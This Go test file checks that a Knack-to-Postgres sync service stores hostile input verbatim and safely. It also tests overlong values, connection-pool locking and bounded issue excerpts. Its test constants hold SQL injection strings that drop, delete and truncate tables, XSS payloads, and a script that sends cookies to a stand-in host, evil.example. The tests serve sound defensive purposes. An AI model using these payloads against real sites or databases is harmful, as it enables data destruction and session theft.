package syncer_test

// Hostile text from Knack through a whole sweep: SQL, markup, NUL bytes,
// invalid UTF-8 and megabyte values in the fields the projection reads.
// Text is data: it is stored verbatim where Postgres can hold it (bound
// parameters and COPY, never spliced into SQL), NUL and invalid bytes are
// dropped (rule 14), and a value longer than its column allows must not
// fail the page it is on.

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/jackc/pgx/v5"

	"knacksync/internal/dbtest"
	"knacksync/internal/knack"
	"knacksync/internal/store"
	"knacksync/internal/syncer"
	"knacksync/internal/vespa"
)

const (
	sqlText    = `Robert'); DROP TABLE students; --`
	sqlGroup   = `x' OR '1'='1`
	sqlComment = `'; DELETE FROM public.vespa_scores; TRUNCATE knacksync.records; --`
	scriptName = `<script>alert(1)</script>`
	imgGroup   = `<img src=x onerror=alert(1)>`
)

// hostileResult crafts an object_10 record of ukSchool and then replaces
// fields' raw and formatted JSON with the bytes given (which need not be
// valid UTF-8: the simulator serves them as stored).
func hostileResult(t *testing.T, id, email string, raw map[string]string) knack.Record {
	t.Helper()
	fields := result(email, ukSchool, mdy(2025, time.October, 6), 1)
	scoreFields(fields, 1, 5, 6, 7, 8, 9, 10)
	rec := craft(t, "object_10", id, fields)
	for key, js := range raw {
		rec.Fields[key+"_raw"] = json.RawMessage(js)
		rec.Fields[key] = json.RawMessage(js)
	}
	return rec
}

// nameJSON is a raw name object whose full name is the JSON string text
// full (already quoted and escaped as wanted).
func nameJSON(full string) string {
	return `{"first":"x","last":"y","full":` + full + `}`
}

// studentRow reads a student by email: name, group and the rrc comment of
// cycle 1 (nil when absent).
func studentRow(t *testing.T, b *testBundle, email string) (found bool, name, group, comment *string) {
	t.Helper()
	rows, err := b.pool.Query(t.Context(), `SELECT s.name, s."group", c.comment_text FROM public.students s
		LEFT JOIN public.student_comments c ON c.student_id = s.id AND c.cycle = 1 AND c.comment_type = 'rrc'
		WHERE s.email = $1`, email)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		found = true
		if err := rows.Scan(&name, &group, &comment); err != nil {
			t.Fatal(err)
		}
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return found, name, group, comment
}

func deref(p *string) string {
	if p == nil {
		return "<NULL>"
	}
	return *p
}

func TestHostileTextStoredVerbatim(t *testing.T) {
	t.Parallel()
	b := crafted(t, options{})
	comment := vespa.Object10.RRC[0].Key
	name := vespa.Object10.Name.Key
	group := vespa.Object10.Group.Key
	mega := strings.Repeat("A long reflection on my week. ", 1<<20/30+1)[:1<<20]
	megaJSON, _ := json.Marshal(mega)
	type want struct{ name, group, comment string }
	cases := []struct {
		email string
		raw   map[string]string
		want  want
	}{
		{"sql.injection@hostile.example", map[string]string{
			name: nameJSON(mustJSON(sqlText)), group: mustJSON(sqlGroup), comment: mustJSON(sqlComment),
		}, want{sqlText, sqlGroup, sqlComment}},
		{"script.tag@hostile.example", map[string]string{
			name: nameJSON(mustJSON(scriptName)), group: mustJSON(imgGroup), comment: mustJSON("</textarea><script>document.location='//evil.example/?c='+document.cookie</script>"),
		}, want{scriptName, imgGroup, "</textarea><script>document.location='//evil.example/?c='+document.cookie</script>"}},
		{"nul.bytes@hostile.example", map[string]string{
			name: nameJSON(`"Ann\u0000Bell"`), group: `"G\u0000roup\u0000"`, comment: `"line one\u0000line two"`,
		}, want{"AnnBell", "Group", "line oneline two"}},
		{"invalid.utf8@hostile.example", map[string]string{
			name: nameJSON("\"Ann\xff\xfeBell\""), group: "\"Gr\xc3\x28oup\"", comment: "\"caf\xe9 ol\xc3\xa9\"",
		}, want{"AnnBell", "Gr(oup", "caf olé"}},
		{"lone.surrogate@hostile.example", map[string]string{
			name: nameJSON(`"Zo\ud800e"`), group: `"G\udc00x"`, comment: `"emoji \ud83d\ude00 ok"`,
		}, want{"Zoe", "Gx", "emoji \U0001F600 ok"}},
		{"megabyte.comment@hostile.example", map[string]string{comment: string(megaJSON)}, want{"Sam Student", "", mega}},
	}
	for i, c := range cases {
		b.sim.Put("object_10", hostileResult(t, oid(epoch, 100+i), c.email, c.raw))
	}
	run := b.sweep(t)

	for _, c := range cases {
		found, name, group, comment := studentRow(t, b, c.email)
		if !found {
			t.Errorf("%s: no student row (issues: %v)", c.email, issues(t, b.pool))
			continue
		}
		wantGroup := c.want.group
		if wantGroup == "" {
			wantGroup = "<NULL>"
		}
		for _, f := range []struct {
			what      string
			got, want string
		}{{"name", deref(name), c.want.name}, {"group", deref(group), wantGroup}, {"comment", deref(comment), c.want.comment}} {
			if f.got != f.want {
				t.Errorf("%s: %s stored as %.80q (%d bytes), want %.80q (%d bytes)", c.email, f.what, f.got, len(f.got), f.want, len(f.want))
			}
			if !utf8.ValidString(f.got) || strings.IndexByte(f.got, 0) >= 0 {
				t.Errorf("%s: %s stored with invalid UTF-8 or NUL", c.email, f.what)
			}
		}
	}
	// The SQL was data: every table is there and nothing was deleted.
	for _, table := range append(targetTables, "knacksync.records", "knacksync.data_issues") {
		if !strings.Contains(table, ".") {
			table = "public." + table
		}
		var exists bool
		if err := b.pool.QueryRow(t.Context(), `SELECT to_regclass($1) IS NOT NULL`, table).Scan(&exists); err != nil || !exists {
			t.Errorf("table %s is gone (%v)", table, err)
		}
	}
	if n := count(t, b.pool, "SELECT count(*) FROM public.students"); n != len(cases) {
		t.Errorf("%d students, want %d", n, len(cases))
	}
	if n := count(t, b.pool, "SELECT count(*) FROM public.vespa_scores"); n != len(cases) {
		t.Errorf("%d score rows, want %d", n, len(cases))
	}
	if n, want := count(t, b.pool, "SELECT count(*) FROM public.establishments"), b.sim.Count("object_2"); n != want {
		t.Errorf("%d establishments, want %d", n, want)
	}
	if n := count(t, b.pool, "SELECT count(*) FROM knacksync.records WHERE object = 'object_10'"); n != len(cases) {
		t.Errorf("mirror holds %d object_10 records, want %d", n, len(cases))
	}
	// The mirror keeps the megabyte value too (what is re-projected later).
	if n := count(t, b.pool, `SELECT count(*) FROM knacksync.records WHERE object = 'object_10' AND length(data->>$1) = $2`, comment+"_raw", len(mega)); n != 1 {
		t.Errorf("mirror: %d records with the 1 MB comment, want 1", n)
	}
	t.Logf("run %d: %v", run.ID, written(run))

	// The same records again: nothing changes (verbatim text compares
	// equal to itself, and the cleaned text is stable).
	again := b.sweep(t)
	if w := written(again); len(w) != 0 {
		t.Errorf("a second sweep wrote %v", w)
	}
}

// A value longer than its column (students.name is varchar(255), "group"
// varchar(100), email varchar(255), establishments.name varchar(255)) must
// not fail the page it is on: the record is reported as a data issue, or
// the value is cut deliberately, and the other records of the page are
// stored.
func TestHostileOverlongValues(t *testing.T) {
	t.Parallel()
	megaName := strings.Repeat("Bartholomew ", 1<<20/12+1)[:1<<20]
	cases := []struct {
		name   string
		object string
		field  string // the Knack field that is too long
		raw    string // its raw JSON
		column string // SELECT giving the stored value for the record (or no row)
		limit  int    // the column's length
		// identity: the value is the row's key: it may never be cut, only
		// reported (with no row stored).
		identity bool
	}{
		{"student name 1 MB", "object_10", vespa.Object10.Name.Key, nameJSON(mustJSON(megaName)),
			`SELECT name FROM public.students WHERE knack_id = $1`, 255, false},
		{"student name 256 characters", "object_10", vespa.Object10.Name.Key, nameJSON(mustJSON(strings.Repeat("é", 256))),
			`SELECT name FROM public.students WHERE knack_id = $1`, 255, false},
		{"group 101 characters", "object_10", vespa.Object10.Group.Key, mustJSON(strings.Repeat("G", 101)),
			`SELECT "group" FROM public.students WHERE knack_id = $1`, 100, false},
		{"email 1 MB", "object_10", vespa.Object10.Email.Key, mustJSON(strings.Repeat("a", 1<<20) + "@hostile.example"),
			`SELECT email FROM public.students WHERE knack_id = $1`, 255, true},
		{"establishment name 300 characters", "object_2", vespa.Object2.Name.Key, mustJSON(strings.Repeat("Academy ", 40)[:300]),
			`SELECT name FROM public.establishments WHERE knack_id = $1`, 255, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := crafted(t, options{})
			bystander := oid(epoch, 1)
			b.put(t, "object_10", bystander, result("bystander@hostile.example", ukSchool, mdy(2025, time.October, 6), 1))
			id := oid(epoch, 2)
			var rec knack.Record
			if c.object == "object_10" {
				rec = hostileResult(t, id, "overlong@hostile.example", map[string]string{c.field: c.raw})
			} else {
				rec = craft(t, "object_2", id, map[string]any{"field_44": "x", "field_2209": "Active", "field_63": "COACHING PORTAL"})
				rec.Fields[c.field+"_raw"], rec.Fields[c.field] = json.RawMessage(c.raw), json.RawMessage(c.raw)
			}
			b.sim.Put(c.object, rec)

			b.clock.Advance(time.Minute)
			run, err := b.syncer.Sweep(t.Context(), syncer.SweepOptions{})
			if err != nil || run.Status != store.StatusSucceeded {
				errText := ""
				if run != nil {
					errText = run.Error
				}
				t.Fatalf("an over-long %s failed the sweep: %v %s\n(it must become a data issue or be cut deliberately, never fail the batch)", c.field, err, errText)
			}
			if n := count(t, b.pool, `SELECT count(*) FROM public.students WHERE email = 'bystander@hostile.example'`); n != 1 {
				t.Errorf("the bystander on the same page was not stored")
			}
			// The issue names the Knack field, or the column it was cut for.
			reported := count(t, b.pool, `SELECT count(*) FROM knacksync.data_issues WHERE record_id = $1 AND (field = $2 OR rule = $3)`,
				id, c.field, vespa.RuleTooLong) > 0
			var stored *string
			rows, err := b.pool.Query(t.Context(), c.column, id)
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for rows.Next() {
				found = true
				if err := rows.Scan(&stored); err != nil {
					t.Fatal(err)
				}
			}
			rows.Close()
			switch {
			case found && stored != nil && c.identity:
				t.Errorf("identity value stored cut to %d characters: it must be reported, not cut", utf8.RuneCountInString(*stored))
			case found && stored != nil:
				var full string
				if c.field == vespa.Object10.Name.Key {
					var n struct{ Full string }
					_ = json.Unmarshal([]byte(c.raw), &n)
					full = n.Full
				} else {
					_ = json.Unmarshal([]byte(c.raw), &full)
				}
				if utf8.RuneCountInString(*stored) > c.limit || !strings.HasPrefix(full, *stored) {
					t.Errorf("stored %d characters that are not a prefix of the value", utf8.RuneCountInString(*stored))
				}
				if !reported {
					t.Errorf("cut to %d characters without a data issue", utf8.RuneCountInString(*stored))
				}
				t.Logf("cut to %d characters; reported as a data issue: %v", utf8.RuneCountInString(*stored), reported)
			case !reported:
				t.Errorf("the value was neither stored nor reported as a data issue")
			default:
				t.Logf("reported as a data issue; row stored: %v", found)
			}
		})
	}
}

func mustJSON(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// A hint storm on two objects while a sweep runs, in the service's pool:
// pgxpool's default of max(4, CPUs) connections (four on a Fly machine;
// dbmigrate.Open sets none). Each hints job holds its object's lock on a
// connection of its own for as long as it runs (store.TryLock), and the
// sweep holds its lock on another; its two page workers must still get
// through with what is left. They cannot if a page's transaction asks the
// pool for a second connection while it holds the first.
func TestHostileHintLocksAndSweepInPoolOfFour(t *testing.T) {
	t.Parallel()
	pool := dbtest.Connect(t, dbtest.URL(t)+"&pool_max_conns=4")
	b := setup(t, options{pool: pool, rowsPerPage: 5})
	for _, key := range []string{"hints:object_10", "hints:object_29"} {
		release, ok, err := b.store.TryLock(t.Context(), key)
		if err != nil || !ok {
			t.Fatalf("lock %s: %v %v", key, ok, err)
		}
		t.Cleanup(release)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 15*time.Second)
	defer cancel()
	b.clock.Advance(time.Minute)
	start := time.Now()
	run, err := b.syncer.Sweep(ctx, syncer.SweepOptions{})
	if err != nil || run.Status != store.StatusSucceeded {
		st := pool.Stat()
		t.Fatalf("sweep with two hint locks held in a pool of 4: %v after %s (%d of %d connections acquired)\n"+
			"a page transaction waits for a second pooled connection (syncer.project → lookups → store.Establishments/Accounts on the pool, not the tx) that nobody releases",
			err, time.Since(start).Round(time.Millisecond), st.AcquiredConns(), st.MaxConns())
	}
}

// A megabyte of text where a number, a date or an address belongs is
// reported, and the issue keeps a bounded excerpt of it: every open issue
// is shown on the status page (up to 200 of them), so a kept megabyte
// would make a page of hundreds of megabytes.
func TestHostileMegabyteIssueValue(t *testing.T) {
	t.Parallel()
	b := crafted(t, options{})
	mega := mustJSON(strings.Repeat("9 out of 10 ", 1<<20/12+1)[:1<<20])
	id := oid(epoch, 1)
	b.sim.Put("object_10", hostileResult(t, id, "mega.score@hostile.example", map[string]string{
		vespa.Object10.Scores[0][0].Key:   mega,
		vespa.Object10.CompletionDate.Key: mega,
	}))
	b.sweep(t)
	rows, err := b.pool.Query(t.Context(), `SELECT rule, field, length(value) FROM knacksync.data_issues WHERE record_id = $1`, id)
	if err != nil {
		t.Fatal(err)
	}
	var rule, field string
	var n int
	found := 0
	_, err = pgx.ForEachRow(rows, []any{&rule, &field, &n}, func() error {
		found++
		if n > 4<<10 {
			t.Errorf("issue %s on %s keeps a value of %d characters", rule, field, n)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if found < 2 {
		t.Errorf("%d issues for the record, want the score's and the date's", found)
	}
}
